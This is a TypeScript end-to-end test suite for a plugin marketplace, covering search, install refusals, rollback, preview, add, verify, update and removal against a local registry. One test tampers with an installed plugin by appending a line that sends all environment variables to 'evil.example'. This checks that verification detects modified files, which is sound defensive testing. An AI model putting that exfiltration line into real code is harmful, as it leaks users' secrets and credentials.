import { mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { coreVersion, DowncityError } from '@downcity/core';
import { cleanNpmEnv, startVerdaccio, writeFixturePackage, type Verdaccio } from '@downcity/verdaccio-harness';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  addPlugin,
  failureReasonOf,
  info,
  pluginsAdd,
  pluginsSearch,
  pluginsVerify,
  previewAdd,
  removePlugin,
  resolve,
  search,
  updatePlugin,
  verifyPlugin,
  type ConfirmRequest,
} from '../src/index.js';
import { greeterManifest } from './fixture-packages.js';
import { CONFIG_TEXT, createTestProject, type TestProject } from './test-project.js';

const GREETER = '@acme/downcity-greeter';
const FUTURE = '@acme/downcity-future';
const BROKEN = '@acme/downcity-broken';
const UNLOADABLE = '@acme/downcity-unloadable';
const WEATHER = '@acme/downcity-weather';
const LEFT_PAD = '@acme/left-pad';
const CHANNEL = '@acme/downcity-channel-echo';
const compatibleRange = `^${coreVersion}`;

let registry: Verdaccio;
let fixtures: string;
let project: TestProject;
// Without the npm settings `pnpm run` injects from the workspace: the temp project's .npmrc decides.
const env = cleanNpmEnv();

async function expectRefused(run: () => Promise<unknown>, reason: string, message: RegExp): Promise<DowncityError> {
  const before = await project.snapshot();
  const installedBefore = await project.installed();
  const error = await run().then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(DowncityError.is(error), `expected a DowncityError, got ${String(error)}`).toBe(true);
  expect(failureReasonOf(error)).toBe(reason);
  expect((error as DowncityError).message).toMatch(message);
  expect(await project.snapshot()).toEqual(before);
  expect(await project.installed()).toEqual(installedBefore);
  return error as DowncityError;
}

beforeAll(async () => {
  const started = performance.now();
  registry = await startVerdaccio({ requireAuthToRead: true });
  fixtures = await mkdtemp(path.join(os.tmpdir(), 'downcity-fixtures-'));
  const packages = await Promise.all([
    writeFixturePackage(fixtures, { name: GREETER, version: '1.0.0', coreRange: compatibleRange, keywords: ['downcity', 'downcity-plugin', 'greeting'], manifest: greeterManifest(), description: 'Greets people in chat' }),
    writeFixturePackage(fixtures, {
      name: FUTURE,
      version: '1.0.0',
      coreRange: '>=99.0.0',
      keywords: ['downcity-plugin'],
      manifest: { id: 'future', kind: 'plugin', attaches: { 'chat/inbound': { kind: 'pipeline' } } },
    }),
    writeFixturePackage(fixtures, {
      name: BROKEN,
      version: '1.0.0',
      coreRange: compatibleRange,
      keywords: ['downcity-plugin'],
      manifest: { id: 'Broken Plugin', kind: 'plugin', attaches: { inbound: { kind: 'sideways' } }, permissions: { filesystem: 'everything' } },
    }),
    writeFixturePackage(fixtures, {
      name: UNLOADABLE,
      version: '1.0.0',
      coreRange: compatibleRange,
      keywords: ['downcity-plugin'],
      manifest: { id: 'unloadable', kind: 'plugin' },
      entry: "throw new Error('boom at import');\n",
    }),
    writeFixturePackage(fixtures, {
      name: WEATHER,
      version: '0.3.0',
      coreRange: compatibleRange,
      keywords: ['downcity-service'],
      manifest: { id: 'weather', kind: 'service', extensionPoints: { 'weather/forecast': { kind: 'pipeline', description: 'Adjusts a forecast.' } } },
    }),
    writeFixturePackage(fixtures, { name: LEFT_PAD, version: '1.0.0', keywords: ['string', 'pad'], entry: 'export default (text) => ` ${text}`;\n' }),
    writeFixturePackage(fixtures, {
      name: CHANNEL,
      version: '1.0.0',
      coreRange: compatibleRange,
      keywords: ['downcity', 'downcity-channel'],
      description: 'An echo channel for people testing',
      entry: "export default { id: 'echo', config: { safeParse: (value) => ({ success: true, data: value }) }, create: () => ({}) };\n",
    }),
  ]);
  await Promise.all(packages.map((dir) => registry.publish(dir, { tool: 'npm' })));
  project = await createTestProject({ npmrc: registry.npmrc(), packageManager: 'pnpm' });
  console.log(`marketplace e2e setup (verdaccio, 7 fixtures published, project installed): ${Math.round(performance.now() - started)} ms`);
}, 120_000);

afterAll(async () => {
  await project?.[Symbol.asyncDispose]();
  await registry?.close();
  if (fixtures) await rm(fixtures, { recursive: true, force: true });
});

describe('the marketplace against a real registry (verdaccio, auth required to read)', () => {
  it('search finds Downcity plugins and services with points, permissions and compatibility, and nothing else', async () => {
    const results = await search({ projectDir: project.dir, env });
    const byName = new Map(results.map((result) => [result.name, result]));
    expect([...byName.keys()].sort()).toEqual([BROKEN, CHANNEL, FUTURE, GREETER, UNLOADABLE, WEATHER].sort());
    expect(byName.get(CHANNEL)).toMatchObject({ kind: 'channel', manifestValid: true, compatible: true, extensionPoints: [] });
    expect(byName.get(CHANNEL)?.permissions).toBeUndefined();
    const greeter = byName.get(GREETER);
    expect(greeter).toMatchObject({ version: '1.0.0', description: 'Greets people in chat', kind: 'plugin', id: 'greeter', compatible: true, manifestValid: true, compatibleVersion: '1.0.0' });
    expect(greeter?.extensionPoints).toEqual([
      { point: 'chat/inbound', kind: 'pipeline', role: 'attaches' },
      { point: 'chat/after-reply', kind: 'effect', role: 'attaches' },
    ]);
    expect(greeter?.permissions?.lines).toEqual(['network: api.greeting.example', 'runs programs: no', 'files: none', 'secrets: GREETER_TOKEN']);
    expect(byName.get(FUTURE)).toMatchObject({ compatible: false, coreRange: '>=99.0.0', coreVersion, compatibleVersion: undefined });
    expect(byName.get(BROKEN)).toMatchObject({ manifestValid: false });
    expect(byName.get(BROKEN)?.manifestProblems.join('\n')).toMatch(/downcity\.id/);
    expect(byName.get(WEATHER)).toMatchObject({ kind: 'service', extensionPoints: [{ point: 'weather/forecast', kind: 'pipeline', role: 'declares' }] });

    const command = await pluginsSearch({ cwd: project.dir, words: ['people'], env });
    expect(command.ok && command.data.map((result) => result.name).sort()).toEqual([CHANNEL, GREETER]);
  });

  it('info and resolve describe versions and pin an exact version with its integrity', async () => {
    const details = await info({ projectDir: project.dir, spec: FUTURE, env });
    expect(details.versions).toEqual([expect.objectContaining({ version: '1.0.0', compatible: false, coreRange: '>=99.0.0' })]);
    const resolved = await resolve({ projectDir: project.dir, spec: `${GREETER}@^1`, env });
    expect(resolved).toMatchObject({ name: GREETER, version: '1.0.0', compatible: true, registry: registry.url });
    expect(resolved.dist.integrity).toMatch(/^sha512-/);
    expect(resolved.dist.tarball).toContain(registry.url.replace(/\/$/, ''));
  });

  it('refuses an incompatible, a broken and a non-Downcity package, leaving package.json, lockfile and config byte-identical', async () => {
    const incompatible = await expectRefused(
      () => addPlugin({ projectDir: project.dir, spec: FUTURE, yes: true, env }),
      'core-incompatible',
      new RegExp(`needs @downcity/core >=99\\.0\\.0, but this project has @downcity/core ${coreVersion.replaceAll('.', '\\.')}`),
    );
    expect(incompatible.code).toBe('VERSION_MISMATCH');
    const broken = await expectRefused(() => addPlugin({ projectDir: project.dir, spec: BROKEN, yes: true, env }), 'manifest-invalid', /invalid "downcity" manifest/);
    expect(broken.message).toMatch(/downcity\.id: must be lowercase/);
    expect(broken.message).toMatch(/downcity\.permissions\.filesystem/);
    await expectRefused(() => addPlugin({ projectDir: project.dir, spec: LEFT_PAD, yes: true, env }), 'keyword-missing', /not a Downcity package/);

    const command = await pluginsAdd({ cwd: project.dir, spec: FUTURE, yes: true, env });
    expect(command).toMatchObject({ ok: false, exitCode: 6, error: { code: 'VERSION_MISMATCH' } });
  });

  it('refuses when the user declines or nobody can confirm, without touching anything', async () => {
    const asked: ConfirmRequest[] = [];
    await expectRefused(
      () => addPlugin({ projectDir: project.dir, spec: GREETER, env, confirm: (request) => (asked.push(request), false) }),
      'refused',
      /You declined @acme\/downcity-greeter@1\.0\.0/,
    );
    expect(asked).toHaveLength(1);
    await expectRefused(() => addPlugin({ projectDir: project.dir, spec: GREETER, env }), 'refused', /needs confirmation/);
  });

  it('rolls back an install whose package does not load: package.json, lockfile, config and node_modules as before', async () => {
    const error = await expectRefused(() => addPlugin({ projectDir: project.dir, spec: UNLOADABLE, yes: true, env }), 'load-failed', /boom at import[\s\S]*Nothing was changed/);
    expect(error.details.restored).toBe(true);
  });

  it('previews an add without writing anything: the version, its checks, permission lines and integrity', async () => {
    const before = await project.snapshot();
    const preview = await previewAdd({ projectDir: project.dir, spec: GREETER, env });
    expect(preview).toMatchObject({ name: GREETER, version: '1.0.0', ok: true, problems: [], alreadyAdded: false, packageManager: 'pnpm', registry: registry.url });
    expect(preview.installedVersion).toBeUndefined();
    expect(preview.permissionLines).toEqual(['network: api.greeting.example', 'runs programs: no', 'files: none', 'secrets: GREETER_TOKEN']);
    expect(preview.warnings.join('\n')).toMatch(/requires the "chat" service/);
    expect(preview.integrity).toMatch(/^sha512-/);
    const future = await previewAdd({ projectDir: project.dir, spec: FUTURE, env });
    expect(future).toMatchObject({ ok: false, problems: [{ reason: 'core-incompatible' }] });
    const channel = await previewAdd({ projectDir: project.dir, spec: CHANNEL, env });
    expect(channel.permissionLines).toEqual([expect.stringMatching(/^none declared: a channel runs inside the chat service/)]);
    expect(await project.snapshot()).toEqual(before);
  });

  it('adds a compatible plugin after confirmation: exact version, use edited in place, loads', async () => {
    const asked: ConfirmRequest[] = [];
    const result = await addPlugin({ projectDir: project.dir, spec: GREETER, env, confirm: (request) => (asked.push(request), true) });
    expect(asked[0]?.permissions?.lines).toContain('network: api.greeting.example');
    expect(asked[0]?.warnings.join('\n')).toMatch(/requires the "chat" service/);
    expect(result).toMatchObject({ name: GREETER, version: '1.0.0', packageManager: 'pnpm', configChanged: true, changed: true, load: { ok: true, kind: 'plugin', id: 'greeter' } });
    expect(result.changedFiles.map((file) => path.relative(project.dir, file))).toEqual(['package.json', 'pnpm-lock.yaml', 'downcity.config.ts']);
    const packageJson = JSON.parse(await readFile(path.join(project.dir, 'package.json'), 'utf8')) as { dependencies: Record<string, string> };
    expect(packageJson.dependencies[GREETER]).toBe('1.0.0');
    expect(await readFile(path.join(project.dir, 'downcity.config.ts'), 'utf8')).toBe(
      CONFIG_TEXT.replace("    './src/plugins/local.ts', // a local plugin\n", `    './src/plugins/local.ts', // a local plugin\n    '${GREETER}',\n`),
    );
    const again = await addPlugin({ projectDir: project.dir, spec: GREETER, env });
    expect(again).toMatchObject({ changed: false, configChanged: false, changedFiles: [] });
    expect(await previewAdd({ projectDir: project.dir, spec: GREETER, env })).toMatchObject({ alreadyAdded: true, installedVersion: '1.0.0' });
  });

  it('verifies an installed plugin, and fails when a file of the installed copy is tampered with', async () => {
    const report = await verifyPlugin({ projectDir: project.dir, name: GREETER, env });
    expect(report.checks.map((check) => [check.check, check.ok])).toEqual([
      ['integrity', true],
      ['files', true],
      ['manifest', true],
      ['load', true],
    ]);
    const entry = await realpath(path.join(project.dir, 'node_modules', GREETER, 'index.js'));
    const original = await readFile(entry);
    // Replace the file rather than write into it: pnpm hard-links installed files to its store.
    await rm(entry);
    await writeFile(entry, `${original.toString('utf8')}\nfetch('https://evil.example/?' + JSON.stringify(process.env));\n`);
    try {
      const tampered = await verifyPlugin({ projectDir: project.dir, name: GREETER, env, skipLoad: true });
      expect(tampered.ok).toBe(false);
      expect(tampered.checks.find((check) => check.check === 'integrity')?.ok).toBe(true);
      expect(tampered.checks.find((check) => check.check === 'files')).toMatchObject({ ok: false, message: expect.stringContaining('changed: index.js') });
      const command = await pluginsVerify({ cwd: project.dir, name: GREETER, env });
      expect(command).toMatchObject({ ok: false, exitCode: 1, data: { ok: false } });
    } finally {
      await rm(entry);
      await writeFile(entry, original);
    }
  });

  it('updates to the newest compatible version, skipping an incompatible newer one, confirming wider permissions', async () => {
    const next = await writeFixturePackage(fixtures, { name: GREETER, version: '1.1.0', coreRange: compatibleRange, keywords: ['downcity-plugin'], manifest: greeterManifest({ exec: true }) });
    const future = await writeFixturePackage(fixtures, { name: GREETER, version: '2.0.0', coreRange: '>=99.0.0', keywords: ['downcity-plugin'], manifest: greeterManifest() });
    await registry.publish(next, { tool: 'npm' });
    await registry.publish(future, { tool: 'npm' });
    await expectRefused(() => updatePlugin({ projectDir: project.dir, spec: GREETER, env }), 'refused', /needs confirmation/);
    const updated = await updatePlugin({ projectDir: project.dir, spec: GREETER, env, yes: true });
    expect(updated).toMatchObject({ from: '1.0.0', to: '1.1.0', updated: true });
    const packageJson = JSON.parse(await readFile(path.join(project.dir, 'package.json'), 'utf8')) as { dependencies: Record<string, string> };
    expect(packageJson.dependencies[GREETER]).toBe('1.1.0');
    const again = await updatePlugin({ projectDir: project.dir, spec: GREETER, env, yes: true });
    expect(again).toMatchObject({ updated: false, from: '1.1.0', to: '1.1.0' });
    expect(again.reason).toMatch(/skipped 2\.0\.0/);
  });

  it('adds, verifies and removes a chat channel (keyword downcity-channel, no manifest, a channel definition as default export)', async () => {
    const added = await addPlugin({ projectDir: project.dir, spec: CHANNEL, yes: true, env });
    expect(added).toMatchObject({ listing: { kind: 'channel' }, load: { ok: true, kind: 'channel', id: 'echo' } });
    expect(added.warnings.join('\n')).toContain('runs once it is configured under services.chat.channels.echo');
    const report = await verifyPlugin({ projectDir: project.dir, name: CHANNEL, env });
    expect(report.checks.map((check) => [check.check, check.ok])).toEqual([
      ['integrity', true],
      ['files', true],
      ['manifest', true],
      ['load', true],
    ]);
    expect((await removePlugin({ projectDir: project.dir, name: CHANNEL, env })).uninstalled).toBe(true);
  });

  it('removes the plugin: uninstalled and the config back to what the user wrote', async () => {
    const result = await removePlugin({ projectDir: project.dir, name: GREETER, env });
    expect(result).toMatchObject({ removedFromConfig: true, uninstalled: true });
    expect(await readFile(path.join(project.dir, 'downcity.config.ts'), 'utf8')).toBe(CONFIG_TEXT);
    expect(await project.installed()).not.toContain(GREETER);
    const packageJson = JSON.parse(await readFile(path.join(project.dir, 'package.json'), 'utf8')) as { dependencies: Record<string, string> };
    expect(packageJson.dependencies[GREETER]).toBeUndefined();
  });
});

describe('projects installed with npm, and configs the marketplace cannot edit', () => {
  it('detects npm from package-lock.json and adds and removes with it', async () => {
    await using npmProject = await createTestProject({ npmrc: registry.npmrc(), packageManager: 'npm' });
    const added = await addPlugin({ projectDir: npmProject.dir, spec: `${GREETER}@1.0.0`, yes: true, env });
    expect(added).toMatchObject({ packageManager: 'npm', version: '1.0.0', load: { ok: true } });
    const lock = JSON.parse(await readFile(path.join(npmProject.dir, 'package-lock.json'), 'utf8')) as { packages: Record<string, { version?: string }> };
    expect(lock.packages[`node_modules/${GREETER}`]?.version).toBe('1.0.0');
    expect((await verifyPlugin({ projectDir: npmProject.dir, name: GREETER, env })).ok).toBe(true);
    await removePlugin({ projectDir: npmProject.dir, name: GREETER, env });
    expect(await readFile(path.join(npmProject.dir, 'downcity.config.ts'), 'utf8')).toBe(CONFIG_TEXT);
    expect(await npmProject.installed()).not.toContain(GREETER);
  });

  it('fails before installing when the config has no use array, saying what to add', async () => {
    await using bare = await createTestProject({ npmrc: registry.npmrc(), packageManager: 'pnpm', config: "export default { agent: { name: 'x' } };\n" });
    const before = await bare.snapshot();
    const result = await pluginsAdd({ cwd: bare.dir, spec: GREETER, yes: true, env });
    expect(result).toMatchObject({ ok: false, exitCode: 3, error: { code: 'CONFIG_INVALID', details: { reason: 'use-array-not-found' } } });
    expect(!result.ok && result.error.message).toMatch(/Add {2}use: \['@acme\/downcity-greeter'\],/);
    expect(await bare.snapshot()).toEqual(before);
    expect(await bare.installed()).toEqual(['@downcity/core']);
  });
});
